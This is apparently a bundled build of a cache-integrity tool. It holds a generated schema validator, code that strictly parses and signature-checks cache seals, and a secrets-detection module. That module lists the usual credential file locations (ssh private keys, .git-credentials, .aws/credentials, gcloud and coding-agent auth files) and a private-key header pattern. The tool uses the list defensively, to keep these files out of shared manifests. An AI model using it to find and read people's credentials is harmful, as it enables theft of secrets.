{instancePath:instancePath+"/body/made/arch",schemaPath:"#/properties/body/properties/made/properties/arch/pattern",keyword:"pattern",params:{pattern: "^[a-z0-9_-]{1,32}$"},message:"must match pattern \""+"^[a-z0-9_-]{1,32}$"+"\""};if(vErrors === null){vErrors = [err23];}else {vErrors.push(err23);}errors++;}}else {const err24 = {instancePath:instancePath+"/body/made/arch",schemaPath:"#/properties/body/properties/made/properties/arch/type",keyword:"type",params:{type: "string"},message:"must be string"};if(vErrors === null){vErrors = [err24];}else {vErrors.push(err24);}errors++;}}if(data5.run !== undefined){let data9 = data5.run;if(typeof data9 === "string"){if(func1(data9) > 512){const err25 = {instancePath:instancePath+"/body/made/run",schemaPath:"#/properties/body/properties/made/properties/run/maxLength",keyword:"maxLength",params:{limit: 512},message:"must NOT have more than 512 characters"};if(vErrors === null){vErrors = [err25];}else {vErrors.push(err25);}errors++;}}else {const err26 = {instancePath:instancePath+"/body/made/run",schemaPath:"#/properties/body/properties/made/properties/run/type",keyword:"type",params:{type: "string"},message:"must be string"};if(vErrors === null){vErrors = [err26];}else {vErrors.push(err26);}errors++;}}}else {const err27 = {instancePath:instancePath+"/body/made",schemaPath:"#/properties/body/properties/made/type",keyword:"type",params:{type: "object"},message:"must be object"};if(vErrors === null){vErrors = [err27];}else {vErrors.push(err27);}errors++;}}}else {const err28 = {instancePath:instancePath+"/body",schemaPath:"#/properties/body/type",keyword:"type",params:{type: "object"},message:"must be object"};if(vErrors === null){vErrors = [err28];}else {vErrors.push(err28);}errors++;}}if(data.signatures !== undefined){let data10 = data.signatures;if(Array.isArray(data10)){if(data10.length > 16){const err29 = {instancePath:instancePath+"/signatures",schemaPath:"#/properties/signatures/maxItems",keyword:"maxItems",params:{limit: 16},message:"must NOT have more than 16 items"};if(vErrors === null){vErrors = [err29];}else {vErrors.push(err29);}errors++;}const len1 = data10.length;for(let i1=0; i1<len1; i1++){let data11 = data10[i1];if(data11 && typeof data11 == "object" && !Array.isArray(data11)){if(data11.alg === undefined){const err30 = {instancePath:instancePath+"/signatures/" + i1,schemaPath:"#/properties/signatures/items/required",keyword:"required",params:{missingProperty: "alg"},message:"must have required property '"+"alg"+"'"};if(vErrors === null){vErrors = [err30];}else {vErrors.push(err30);}errors++;}if(data11.alg !== undefined){let data12 = data11.alg;if(!((data12 === "hmac-sha256") || (data12 === "ml-dsa-87"))){const err31 = {instancePath:instancePath+"/signatures/" + i1+"/alg",schemaPath:"#/properties/signatures/items/properties/alg/enum",keyword:"enum",params:{allowedValues: schema31.properties.signatures.items.properties.alg.enum},message:"must be equal to one of the allowed values"};if(vErrors === null){vErrors = [err31];}else {vErrors.push(err31);}errors++;}}const tag0 = data11.alg;if(typeof tag0 == "string"){if(tag0 === "hmac-sha256"){if(data11 && typeof data11 == "object" && !Array.isArray(data11)){if(data11.alg === undefined){const err32 = {instancePath:instancePath+"/signatures/" + i1,schemaPath:"urn:snapshot-wipe-resilience:schema:manifest-v3.schema.json#/$defs/hmacSignature/required",keyword:"required",params:{missingProperty: "alg"},message:"must have required property '"+"alg"+"'"};if(vErrors === null){vErrors = [err32];}else {vErrors.push(err32);}errors++;}if(data11.keyid === undefined){const err33 = {instancePath:instancePath+"/signatures/" + i1,schemaPath:"urn:snapshot-wipe-resilience:schema:manifest-v3.schema.json#/$defs/hmacSignature/required",keyword:"required",params:{missingProperty: "keyid"},message:"must have required property '"+"keyid"+"'"};if(vErrors === null){vErrors = [err33];}else {vErrors.push(err33);}errors++;}if(data11.sig === undefined){const err34 = {instancePath:instancePath+"/signatures/" + i1,schemaPath:"urn:snapshot-wipe-resilience:schema:manifest-v3.schema.json#/$defs/hmacSignature/required",keyword:"required",params:{missingProperty: "sig"},message:"must have required property '"+"sig"+"'"};if(vErrors === null){vErrors = [err34];}else {vErrors.push(err34);}errors++;}for(const key3 in data11){if(!(((key3 === "alg") || (key3 === "keyid")) || (key3 === "sig"))){const err35 = {instancePath:instancePath+"/signatures/" + i1,schemaPath:"urn:snapshot-wipe-resilience:schema:manifest-v3.schema.json#/$defs/hmacSignature/additionalProperties",keyword:"additionalProperties",params:{additionalProperty: key3},message:"must NOT have additional properties"};if(vErrors === null){vErrors = [err35];}else {vErrors.push(err35);}errors++;}}if(data11.alg !== undefined){if("hmac-sha256" !== data11.alg){const err36 = {instancePath:instancePath+"/signatures/" + i1+"/alg",schemaPath:"urn:snapshot-wipe-resilience:schema:manifest-v3.schema.json#/$defs/hmacSignature/properties/alg/const",keyword:"const",params:{allowedValue: "hmac-sha256"},message:"must be equal to constant"};if(vErrors === null){vErrors = [err36];}else {vErrors.push(err36);}errors++;}}if(data11.keyid !== undefined){let data14 = data11.keyid;if(typeof data14 === "string"){if(!pattern25.test(data14)){const err37 = {instancePath:instancePath+"/signatures/" + i1+"/keyid",schemaPath:"urn:snapshot-wipe-resilience:schema:manifest-v3.schema.json#/$defs/hmacSignature/properties/keyid/pattern",keyword:"pattern",params:{pattern: "^[0-9a-f]{16}$"},message:"must match pattern \""+"^[0-9a-f]{16}$"+"\""};if(vErrors === null){vErrors = [err37];}else {vErrors.push(err37);}errors++;}}else {const err38 = {instancePath:instancePath+"/signatures/" + i1+"/keyid",schemaPath:"urn:snapshot-wipe-resilience:schema:manifest-v3.schema.json#/$defs/hmacSignature/properties/keyid/type",keyword:"type",params:{type: "string"},message:"must be string"};if(vErrors === null){vErrors = [err38];}else {vErrors.push(err38);}errors++;}}if(data11.sig !== undefined){let data15 = data11.sig;if(typeof data15 === "string"){if(!pattern11.test(data15)){const err39 = {instancePath:instancePath+"/signatures/" + i1+"/sig",schemaPath:"urn:snapshot-wipe-resilience:schema:manifest-v3.schema.json#/$defs/hmacSignature/properties/sig/pattern",keyword:"pattern",params:{pattern: "^[0-9a-f]{64}$"},message:"must match pattern \""+"^[0-9a-f]{64}$"+"\""};if(vErrors === null){vErrors = [err39];}else {vErrors.push(err39);}errors++;}}else {const err40 = {instancePath:instancePath+"/signatures/" + i1+"/sig",schemaPath:"urn:snapshot-wipe-resilience:schema:manifest-v3.schema.json#/$defs/hmacSignature/properties/sig/type",keyword:"type",params:{type: "string"},message:"must be string"};if(vErrors === null){vErrors = [err40];}else {vErrors.push(err40);}errors++;}}}else {const err41 = {instancePath:instancePath+"/signatures/" + i1,schemaPath:"urn:snapshot-wipe-resilience:schema:manifest-v3.schema.json#/$defs/hmacSignature/type",keyword:"type",params:{type: "object"},message:"must be object"};if(vErrors === null){vErrors = [err41];}else {vErrors.push(err41);}errors++;}var props0 = true;}else if(tag0 === "ml-dsa-87"){if(data11 && typeof data11 == "object" && !Array.isArray(data11)){if(data11.alg === undefined){const err42 = {instancePath:instancePath+"/signatures/" + i1,schemaPath:"urn:snapshot-wipe-resilience:schema:manifest-v3.schema.json#/$defs/mldsaSignature/required",keyword:"required",params:{missingProperty: "alg"},message:"must have required property '"+"alg"+"'"};if(vErrors === null){vErrors = [err42];}else {vErrors.push(err42);}errors++;}if(data11.keyid === undefined){const err43 = {instancePath:instancePath+"/signatures/" + i1,schemaPath:"urn:snapshot-wipe-resilience:schema:manifest-v3.schema.json#/$defs/mldsaSignature/required",keyword:"required",params:{missingProperty: "keyid"},message:"must have required property '"+"keyid"+"'"};if(vErrors === null){vErrors = [err43];}else {vErrors.push(err43);}errors++;}if(data11.public_key === undefined){const err44 = {instancePath:instancePath+"/signatures/" + i1,schemaPath:"urn:snapshot-wipe-resilience:schema:manifest-v3.schema.json#/$defs/mldsaSignature/required",keyword:"required",params:{missingProperty: "public_key"},message:"must have required property '"+"public_key"+"'"};if(vErrors === null){vErrors = [err44];}else {vErrors.push(err44);}errors++;}if(data11.sig === undefined){const err45 = {instancePath:instancePath+"/signatures/" + i1,schemaPath:"urn:snapshot-wipe-resilience:schema:manifest-v3.schema.json#/$defs/mldsaSignature/required",keyword:"required",params:{missingProperty: "sig"},message:"must have required property '"+"sig"+"'"};if(vErrors === null){vErrors = [err45];}else {vErrors.push(err45);}errors++;}for(const key4 in data11){if(!((((key4 === "alg") || (key4 === "keyid")) || (key4 === "public_key")) || (key4 === "sig"))){const err46 = {instancePath:instancePath+"/signatures/" + i1,schemaPath:"urn:snapshot-wipe-resilience:schema:manifest-v3.schema.json#/$defs/mldsaSignature/additionalProperties",keyword:"additionalProperties",params:{additionalProperty: key4},message:"must NOT have additional properties"};if(vErrors === null){vErrors = [err46];}else {vErrors.push(err46);}errors++;}}if(data11.alg !== undefined){if("ml-dsa-87" !== data11.alg){const err47 = {instancePath:instancePath+"/signatures/" + i1+"/alg",schemaPath:"urn:snapshot-wipe-resilience:schema:manifest-v3.schema.json#/$defs/mldsaSignature/properties/alg/const",keyword:"const",params:{allowedValue: "ml-dsa-87"},message:"must be equal to constant"};if(vErrors === null){vErrors = [err47];}else {vErrors.push(err47);}errors++;}}if(data11.keyid !== undefined){let data17 = data11.keyid;if(typeof data17 === "string"){if(!pattern11.test(data17)){const err48 = {instancePath:instancePath+"/signatures/" + i1+"/keyid",schemaPath:"urn:snapshot-wipe-resilience:schema:manifest-v3.schema.json#/$defs/mldsaSignature/properties/keyid/pattern",keyword:"pattern",params:{pattern: "^[0-9a-f]{64}$"},message:"must match pattern \""+"^[0-9a-f]{64}$"+"\""};if(vErrors === null){vErrors = [err48];}else {vErrors.push(err48);}errors++;}}else {const err49 = {instancePath:instancePath+"/signatures/" + i1+"/keyid",schemaPath:"urn:snapshot-wipe-resilience:schema:manifest-v3.schema.json#/$defs/mldsaSignature/properties/keyid/type",keyword:"type",params:{type: "string"},message:"must be string"};if(vErrors === null){vErrors = [err49];}else {vErrors.push(err49);}errors++;}}if(data11.public_key !== undefined){let data18 = data11.public_key;if(typeof data18 === "string"){if(func1(data18) > 3460){const err50 = {instancePath:instancePath+"/signatures/" + i1+"/public_key",schemaPath:"urn:snapshot-wipe-resilience:schema:manifest-v3.schema.json#/$defs/mldsaSignature/properties/public_key/maxLength",keyword:"maxLength",params:{limit: 3460},message:"must NOT have more than 3460 characters"};if(vErrors === null){vErrors = [err50];}else {vErrors.push(err50);}errors++;}if(func1(data18) < 3456){const err51 = {instancePath:instancePath+"/signatures/" + i1+"/public_key",schemaPath:"urn:snapshot-wipe-resilience:schema:manifest-v3.schema.json#/$defs/mldsaSignature/properties/public_key/minLength",keyword:"minLength",params:{limit: 3456},message:"must NOT have fewer than 3456 characters"};if(vErrors === null){vErrors = [err51];}else {vErrors.push(err51);}errors++;}if(!pattern28.test(data18)){const err52 = {instancePath:instancePath+"/signatures/" + i1+"/public_key",schemaPath:"urn:snapshot-wipe-resilience:schema:manifest-v3.schema.json#/$defs/mldsaSignature/properties/public_key/pattern",keyword:"pattern",params:{pattern: "^[A-Za-z0-9+/]+={0,2}$"},message:"must match pattern \""+"^[A-Za-z0-9+/]+={0,2}$"+"\""};if(vErrors === null){vErrors = [err52];}else {vErrors.push(err52);}errors++;}}else {const err53 = {instancePath:instancePath+"/signatures/" + i1+"/public_key",schemaPath:"urn:snapshot-wipe-resilience:schema:manifest-v3.schema.json#/$defs/mldsaSignature/properties/public_key/type",keyword:"type",params:{type: "string"},message:"must be string"};if(vErrors === null){vErrors = [err53];}else {vErrors.push(err53);}errors++;}}if(data11.sig !== undefined){let data19 = data11.sig;if(typeof data19 === "string"){if(func1(data19) > 6172){const err54 = {instancePath:instancePath+"/signatures/" + i1+"/sig",schemaPath:"urn:snapshot-wipe-resilience:schema:manifest-v3.schema.json#/$defs/mldsaSignature/properties/sig/maxLength",keyword:"maxLength",params:{limit: 6172},message:"must NOT have more than 6172 characters"};if(vErrors === null){vErrors = [err54];}else {vErrors.push(err54);}errors++;}if(func1(data19) < 6168){const err55 = {instancePath:instancePath+"/signatures/" + i1+"/sig",schemaPath:"urn:snapshot-wipe-resilience:schema:manifest-v3.schema.json#/$defs/mldsaSignature/properties/sig/minLength",keyword:"minLength",params:{limit: 6168},message:"must NOT have fewer than 6168 characters"};if(vErrors === null){vErrors = [err55];}else {vErrors.push(err55);}errors++;}if(!pattern28.test(data19)){const err56 = {instancePath:instancePath+"/signatures/" + i1+"/sig",schemaPath:"urn:snapshot-wipe-resilience:schema:manifest-v3.schema.json#/$defs/mldsaSignature/properties/sig/pattern",keyword:"pattern",params:{pattern: "^[A-Za-z0-9+/]+={0,2}$"},message:"must match pattern \""+"^[A-Za-z0-9+/]+={0,2}$"+"\""};if(vErrors === null){vErrors = [err56];}else {vErrors.push(err56);}errors++;}}else {const err57 = {instancePath:instancePath+"/signatures/" + i1+"/sig",schemaPath:"urn:snapshot-wipe-resilience:schema:manifest-v3.schema.json#/$defs/mldsaSignature/properties/sig/type",keyword:"type",params:{type: "string"},message:"must be string"};if(vErrors === null){vErrors = [err57];}else {vErrors.push(err57);}errors++;}}}else {const err58 = {instancePath:instancePath+"/signatures/" + i1,schemaPath:"urn:snapshot-wipe-resilience:schema:manifest-v3.schema.json#/$defs/mldsaSignature/type",keyword:"type",params:{type: "object"},message:"must be object"};if(vErrors === null){vErrors = [err58];}else {vErrors.push(err58);}errors++;}if(props0 !== true){props0 = true;}}else {const err59 = {instancePath:instancePath+"/signatures/" + i1,schemaPath:"#/properties/signatures/items/discriminator",keyword:"discriminator",params:{error: "mapping", tag: "alg", tagValue: tag0},message:"value of tag \"alg\" must be in oneOf"};if(vErrors === null){vErrors = [err59];}else {vErrors.push(err59);}errors++;}}else {const err60 = {instancePath:instancePath+"/signatures/" + i1,schemaPath:"#/properties/signatures/items/discriminator",keyword:"discriminator",params:{error: "tag", tag: "alg", tagValue: tag0},message:"tag \"alg\" must be string"};if(vErrors === null){vErrors = [err60];}else {vErrors.push(err60);}errors++;}}else {const err61 = {instancePath:instancePath+"/signatures/" + i1,schemaPath:"#/properties/signatures/items/type",keyword:"type",params:{type: "object"},message:"must be object"};if(vErrors === null){vErrors = [err61];}else {vErrors.push(err61);}errors++;}}}else {const err62 = {instancePath:instancePath+"/signatures",schemaPath:"#/properties/signatures/type",keyword:"type",params:{type: "array"},message:"must be array"};if(vErrors === null){vErrors = [err62];}else {vErrors.push(err62);}errors++;}}}else {const err63 = {instancePath,schemaPath:"#/type",keyword:"type",params:{type: "object"},message:"must be object"};if(vErrors === null){vErrors = [err63];}else {vErrors.push(err63);}errors++;}validate20.errors = vErrors;return errors === 0;}validate20.evaluated = {"props":true,"dynamicProps":false,"dynamicItems":false};

;// CONCATENATED MODULE: ./src/core/seal/seal.ts
/**
 * A seal: the expected state of the paths a cache holds, recorded where they were built, keyed by
 * the cache key and signed by the job that built them. It travels as the first member of the cache
 * archive (and, for a sealed manifest entry, in the state directory). Until its signatures hold
 * and its key and paths match the request, every byte of it is attacker-controlled: it is read
 * bounded, parsed strictly, checked against schema/seal-v1.schema.json and the rules below, and it
 * can only ever describe files (never a recipe, a smoke command or an environment).
 */









const SEAL_SCHEMA = 'swr.seal/1';
/** What the signatures bind besides the body: a seal's signature is never a manifest's. */
const SEAL_PAYLOAD_TYPE = 'application/vnd.swr.seal.v1+json';
/** A seal of a million-file tree is about 60 MiB (its index); anything larger is refused unread. */
const SEAL_MAX_BYTES = 128 * 1024 * 1024;
/** The exact bytes every seal signature covers. */
function sealSigningInput(body) {
    return pae(SEAL_PAYLOAD_TYPE, canonicalBytes(body));
}
/** The seal as written into an archive or the state directory. */
function encodeSeal(doc) {
    return Buffer.from(`${JSON.stringify(doc)}\n`, 'utf8');
}
function schemaLine() {
    const e = validate.errors?.[0];
    if (!e)
        return 'not a seal';
    const at = e.instancePath || '/';
    return `${at}: ${e.message ?? 'invalid'}`.slice(0, 300);
}
/** What a schema cannot say: one name per entry, members that do not overlap, indexes that hold. */
function ruleProblem(doc) {
    const members = [];
    for (const [i, p] of doc.body.paths.entries()) {
        const where = `paths[${i}]`;
        const e = p.entry;
        if (e.path.includes('/') || paths_pathProblem(e.path) !== undefined || e.path === '.')
            return `${where}.entry.path ${quoted(e.path)} must be one name`;
        if (e.needs.length > 0)
            return `${where}.entry.needs must be empty`;
        const member = p.member.replace(/\/+$/, '');
        if (member.startsWith('/') || member.split('/').some(c => c === '' || c === '.'))
            return `${where}.member ${quoted(p.member)} is not a relative archive name`;
        if (external_node_path_default().posix.basename(member) !== e.path)
            return `${where}.member ${quoted(p.member)} does not end in the entry's name`;
        for (const m of members)
            if (m === member || m.startsWith(`${member}/`) || member.startsWith(`${m}/`))
                return `${where}.member ${quoted(p.member)} overlaps another sealed path`;
        members.push(member);
        const indexed = e.kind === 'tree' && e.expect.index !== undefined;
        if (indexed !== (p.index !== undefined))
            return `${where}.index must be present exactly when the entry records one`;
    }
    return undefined;
}
/** Each tree's index, decoded and checked against the digest its entry records. */
function decodeIndexes(doc) {
    return doc.body.paths.map((p, i) => {
        if (p.entry.kind !== 'tree' || !p.entry.expect.index || p.index === undefined)
            return undefined;
        const records = parseIndex(Buffer.from(p.index, 'base64'), p.entry.expect.index);
        if (!records)
            throw new Rejected(`seal paths[${i}].index does not match its recorded digest`);
        return records;
    });
}
/** Parse untrusted seal bytes; a Rejected with one line when they are not a well-formed seal. */
function parseSeal(bytes) {
    if (bytes.length > SEAL_MAX_BYTES)
        throw new Rejected(`seal of ${bytes.length} bytes, over the ${SEAL_MAX_BYTES}-byte bound`);
    let value;
    try {
        value = parseStrictJson(bytes.toString('utf8'), {
            maxBytes: SEAL_MAX_BYTES,
            maxDepth: 16,
            maxArrayLength: 100_000
        }).value;
    }
    catch (err) {
        const why = err instanceof StrictJsonError ? err.message : String(err);
        throw new Rejected(`the seal is not valid JSON (${why.split('\n')[0]?.slice(0, 200)})`);
    }
    if (!validate(value))
        throw new Rejected(`the seal is malformed: ${schemaLine()}`);
    const doc = value;
    const problem = ruleProblem(doc);
    if (problem)
        throw new Rejected(`the seal is malformed: ${problem}`);
    return { doc, bytes, records: decodeIndexes(doc) };
}

;// CONCATENATED MODULE: ./src/core/seal/trust.ts
/**
 * Who may seal. A seal is signed with the sealing job's keys (an HMAC secret, an ML-DSA identity)
 * and judged at restore against the keys and signers the restoring job trusts:
 *
 * - `signed`: at least one signature by a trusted key holds. A job without the key (a pull
 *   request, a poisoned step) cannot make a seal that passes.
 * - `any`: a seal must be there and match the archive byte for byte; its signatures are checked
 *   when they name a key this job knows. That catches accidental damage (truncation, a partial or
 *   swapped archive, bit rot), not a writer of the cache who forges a seal.
 *
 * Either way a signature that names a trusted key and does not hold refuses the seal: the body was
 * changed after it was signed. The key and the paths are checked by the caller (restore.ts).
 */




const SEAL_REQUIREMENTS = ['signed', 'any'];
async function signSeal(body, signers) {
    const input = sealSigningInput(body);
    const signatures = [];
    if (signers.hmacKey)
        signatures.push(signHmac(signers.hmacKey, input));
    if (signers.identity)
        signatures.push(await signMldsa(signers.identity, input, 'seal'));
    return { body, signatures };
}
/** Ready to judge seals synchronously (as the archive streams past): ML-DSA loaded when needed. */
async function prepareSealTrust(trust) {
    if (trust.trusted.size > 0)
        await loadMldsa();
}
/**
 * Who signed the seal, as far as this job can tell ("hmac a1b2…", "ml-dsa 1234…"); a Rejected
 * when the requirement is not met. Synchronous, after `prepareSealTrust(trust)`.
 */
function judgeSeal(doc, trust) {
    const input = sealSigningInput(doc.body);
    const by = [];
    for (const s of doc.signatures) {
        if (s.alg === 'hmac-sha256') {
            if (!trust.hmacKey || s.keyid !== hmacKeyId(trust.hmacKey))
                continue;
            if (!verifyHmac(trust.hmacKey, input, s))
                throw new Rejected('the seal was changed after it was signed (its HMAC does not hold)');
            by.push(`hmac ${s.keyid}`);
            continue;
        }
        const decoded = decodeMldsa(s);
        if (!decoded)
            continue;
        const fp = fingerprint(decoded.publicKey);
        if (!trust.trusted.has(fp))
            continue;
        if (!verifyMldsaLoaded(decoded.publicKey, input, decoded.sig, 'seal'))
            throw new Rejected(`the seal was changed after it was signed (the ML-DSA signature of ${fp.slice(0, 16)} does not hold)`);
        by.push(`ml-dsa ${fp.slice(0, 16)}`);
    }
    if (trust.require === 'signed' && by.length === 0)
        throw new Rejected(doc.signatures.length === 0
            ? 'the seal is unsigned, and require-seal is signed'
            : `the seal is signed by no key this job trusts (${doc.signatures.length} signature${doc.signatures.length === 1 ? '' : 's'}), and require-seal is signed`);
    return by;
}

;// CONCATENATED MODULE: ./src/core/seal/entries.ts
/**
 * Sealed manifest entries on this machine: each entry's key template expanded here, its seal read
 * from the private state directory (`seals/`, one file per manifest, entry and key), judged, and
 * turned into an ordinary entry with the seal's expectations, so check, doctor and the reports
 * treat it like any other. An entry with no seal for the current key (a fresh machine, a changed
 * lockfile) stays unsealed: `check` says so without calling it damaged, and `doctor` runs its
 * recipe and smoke command and seals the result (engine/seal-entries.ts).
 *
 * A stored seal is judged as strictly as one from a cache archive: its bytes are bounded and
 * parsed strictly, it must be made for this entry's path and kind and the expanded key, and when
 * this machine has keys a signature by one of them that does not hold refuses it.
 */










/** Where the seal of `spec` under `key` is kept for the manifest at `manifestFile`. */
function storedSealFile(stateDir, manifestFile, id, key) {
    const name = (0,external_node_crypto_.createHash)('sha256')
        .update(`${external_node_path_default().resolve(manifestFile)}\0${id}\0${key}`)
        .digest('hex')
        .slice(0, 32);
    return external_node_path_default().join(stateDir, 'seals', `${name}.json`);
}
function writeStoredSeal(stateDir, file, doc) {
    state_dir_ensurePrivateDir(stateDir, 'seals');
    atomic_writeFileAtomic(file, encodeSeal(doc), { mode: 0o600 });
}
function readStored(file) {
    const st = external_node_fs_default().lstatSync(file, { throwIfNoEntry: false });
    if (!st)
        return undefined;
    if (!st.isFile())
        throw new Rejected('the stored seal is not a regular file');
    if (st.size > SEAL_MAX_BYTES)
        throw new Rejected(`the stored seal is over ${SEAL_MAX_BYTES} bytes`);
    return external_node_fs_default().readFileSync(file);
}
/** The seal must describe exactly this entry: one path, its path and kind, the expanded key. */
function checkFor(seal, spec, key) {
    const body = seal.doc.body;
    if (body.key !== key)
        throw new Rejected(`made for key ${quoted(body.key)}, not ${quoted(key)}`);
    const [p] = body.paths;
    if (body.paths.length !== 1 || !p || p.spelling !== spec.path)
        throw new Rejected(`made for other paths than ${quoted(spec.path)}`);
    if (p.entry.kind !== spec.kind)
        throw new Rejected(`records a ${p.entry.kind}, the manifest a ${spec.kind}`);
}
/** The entry a seal makes of a sealed spec: the manifest's policy, the seal's expectations. */
function sealedEntry(spec, seal) {
    const recorded = seal.doc.body.paths[0]?.entry;
    const { key: _key, ignore, kind: _kind, ...common } = spec;
    switch (recorded.kind) {
        case 'tree':
            return { ...common, kind: 'tree', ignore: ignore ?? recorded.ignore, expect: recorded.expect };
        case 'file':
            return { ...common, kind: 'file', expect: recorded.expect };
        case 'blob':
            return { ...common, kind: 'blob', expect: recorded.expect };
        case 'link':
            return { ...common, kind: 'link', expect: recorded.expect };
    }
}
/** Resolve every sealed entry of `m` against the seals kept on this machine. */
async function resolveSeals(m, opts) {
    const specs = m.body.sealed ?? [];
    if (specs.length === 0)
        return { manifest: m, states: [] };
    await prepareSealTrust(opts.trust);
    const states = [];
    const entries = [];
    const indexes = new Map();
    for (const spec of specs) {
        let key;
        try {
            key = expandKey(spec.key, m.workspace, opts.platform);
        }
        catch (err) {
            states.push({ id: spec.id, state: 'unkeyed', detail: err.message, signedBy: [] });
            continue;
        }
        const file = storedSealFile(opts.stateDir, m.file, spec.id, key);
        try {
            const bytes = readStored(file);
            if (!bytes) {
                states.push({
                    id: spec.id,
                    key,
                    state: 'unsealed',
                    detail: `no seal for key ${key} here`,
                    signedBy: []
                });
                continue;
            }
            const seal = parseSeal(bytes);
            checkFor(seal, spec, key);
            const signedBy = judgeSeal(seal.doc, opts.trust);
            entries.push(sealedEntry(spec, seal));
            const records = seal.records[0];
            if (records)
                indexes.set(spec.id, records);
            const made = seal.doc.body.made;
            states.push({
                id: spec.id,
                key,
                state: 'sealed',
                detail: `sealed ${made.at} on ${made.os}/${made.arch}${signedBy.length > 0 ? `, signed by ${signedBy.join(', ')}` : ', unsigned'}`,
                signedBy
            });
        }
        catch (err) {
            const why = err instanceof Rejected ? err.message : err.message;
            states.push({
                id: spec.id,
                key,
                state: 'refused',
                detail: `the seal here is refused: ${why}`,
                signedBy: []
            });
        }
    }
    const manifest = {
        ...m,
        body: { ...m.body, entries: [...m.body.entries, ...entries] },
        sealIndexes: indexes
    };
    return { manifest, states };
}

// EXTERNAL MODULE: external "node:os"
var external_node_os_ = __webpack_require__(48161);
var external_node_os_default = /*#__PURE__*/__webpack_require__.n(external_node_os_);
// EXTERNAL MODULE: ./node_modules/p-limit/index.js + 1 modules
var p_limit = __webpack_require__(70370);
;// CONCATENATED MODULE: ./src/core/capture/volatile-dirs.ts
/**
 * Directory names that runners, caches and sandboxes routinely drop or never keep: capture gives
 * what lies below them the build-output tier and leaves them out of trees, the diagnosis reads
 * their loss as a routine wipe, canaries probe them, and authoring skips them.
 */
const volatile_dirs_VOLATILE_DIRS = new Set([
    '.cache',
    '.next',
    '.npm',
    '.nuxt',
    '.output',
    '.parcel-cache',
    '.pytest_cache',
    '.ruff_cache',
    '.mypy_cache',
    '.svelte-kit',
    '.tox',
    '.nox',
    '.turbo',
    '.venv',
    '.vite',
    '__pycache__',
    'build',
    'coverage',
    'dist',
    'node_modules',
    'out',
    'target'
]);
/** Whether a manifest path lies below one of them. */
function underVolatileDir(p) {
    return p.split('/').some(seg => volatile_dirs_VOLATILE_DIRS.has(seg));
}

;// CONCATENATED MODULE: ./src/core/capture/secrets.ts
/**
 * Which files hold secrets. A secret is tracked by hash only (a tier-0 file entry: its loss is
 * noticed and named) and never escrowed: escrowed bytes travel inside the manifest, which is
 * committed, pushed and shared, and a manifest is not a vault.
 *
 * A file is a secret by where it is (swr's own state directory: its HMAC key, ML-DSA and sync
 * seeds), by name (files that exist to hold a credential: ssh keys, netrc, the logins of git, gh,
 * PyPI, cargo, cloud CLIs and coding agents, `*.pem`, `*.key`), or by content: a PEM, OpenSSH or
 * PGP private-key header, a token shape the recipe-output scrubber masks, or what a secret scan
 * finds (secret-scan.ts). Files that often hold a credential but often do not (`.npmrc`, `.env`,
 * `.envrc`, a kubeconfig, a docker or podman `config.json`/`auth.json`) are judged by content, so
 * one without credentials can be escrowed. `add` judges with swr's own rules (nothing to load);
 * escrow passes the full scan. Content is judged on the file's first SNIFF_BYTES when only a
 * class is wanted, and on every byte escrow would embed.
 */





/** The note a secret's entry carries when it was added without one. */
const secrets_SECRET_NOTE = 'secret: tracked by hash only and never escrowed; restore it from where it was issued';
/** Bytes read from the head of a file to judge its content. */
const SNIFF_BYTES = 64 * 1024;
/** File names that are credentials wherever they are. */
const SECRET_NAMES = new Set([
    '.netrc',
    '_netrc',
    '.git-credentials',
    '.pgpass',
    '.pypirc',
    '.vault-token',
    '.credentials.json',
    'oauth_creds.json',
    'credentials.toml',
    'id_rsa',
    'id_dsa',
    'id_ecdsa',
    'id_ed25519',
    'id_ecdsa_sk',
    'id_ed25519_sk'
]);
/** Extensions of key and certificate-bundle files. */
const SECRET_EXTENSIONS = /\.(pem|key|p12|pfx|jks|keystore|ppk)$/i;
/** Paths (relative, ending a manifest path) that are credentials in one tool's directory. */
const SECRET_SUFFIXES = [
    '.codex/auth.json',
    'gh/hosts.yml',
    '.aws/credentials',
    '.cargo/credentials',
    'gcloud/credentials.db',
    'gcloud/application_default_credentials.json'
];
/** Directories whose every file is secret. */
const SECRET_DIRS = new Set(['.gnupg']);
/** What may sit in ~/.ssh without being a private key. */
const SSH_PUBLIC = new Set(['config', 'known_hosts', 'known_hosts.old', 'authorized_keys']);
/** PEM ("RSA", "EC", "ENCRYPTED", none), OpenSSH and PGP private-key armour. */
const PRIVATE_KEY_HEADER = /-----BEGIN (?:[A-Z0-9]+ ){0,4}PRIVATE KEY(?: BLOCK)?-----/;
/** True when `rel` (a manifest path) names a file that must never be escrowed. */
function secrets_isSecretPath(rel) {
    const segs = rel.split('/');
    const name = segs[segs.length - 1] ?? '';
    const parent = segs[segs.length - 2];
    if (segs.slice(0, -1).some(s => SECRET_DIRS.has(s)))
        return true;
    if (SECRET_SUFFIXES.some(s => rel === s || rel.endsWith(`/${s}`)))
        return true;
    if (SECRET_NAMES.has(name) || SECRET_EXTENSIONS.test(name))
        return true;
    // Any key ssh-keygen or a person put into .ssh (id_work, deploy_github); .pub is public.
    return parent === '.ssh' && !name.endsWith('.pub') && !SSH_PUBLIC.has(name);
}
/**
 * Why these bytes are a secret (a private key, a token, what `scan` finds: its rule names, never
 * the value), or undefined. `rel` lets file-type rules apply (dotenv, .npmrc, .json).
 */
function secretContent(bytes, scan = ownSecretScan, rel) {
    const text = Buffer.from(bytes.buffer, bytes.byteOffset, bytes.byteLength).toString('latin1');
    if (PRIVATE_KEY_HEADER.test(text))
        return 'holds a private key';
    if (scrub_hasTokenShape(text))
        return 'holds a token or a password';
    const rules = [...new Set(scan(text, rel).map(f => f.rule))];
    return rules.length > 0 ? `holds a secret (${rules.join(', ')})` : undefined;
}
/** The first `max` bytes of a regular file, read without following a symlink. */
function readHead(abs, max = SNIFF_BYTES) {
    const fd = external_node_fs_default().openSync(abs, (external_node_fs_default()).constants.O_RDONLY | (external_node_fs_default()).constants.O_NOFOLLOW | (external_node_fs_default()).constants.O_NONBLOCK);
    try {
        if (!external_node_fs_default().fstatSync(fd).isFile())
            return Buffer.alloc(0);
        const buf = Buffer.alloc(max);
        let got = 0;
        while (got < max) {
            const n = external_node_fs_default().readSync(fd, buf, got, max - got, got);
            if (n === 0)
                break;
            got += n;
        }
        return buf.subarray(0, got);
    }
    finally {
        external_node_fs_default().closeSync(fd);
    }
}
function realOrResolved(p) {
    try {
        return external_node_fs_default().realpathSync(p);
    }
    catch {
        return external_node_path_default().resolve(p);
    }
}
/** Why the file is a secret, in a few words, or undefined when it is not one. */
function secretReason(q) {
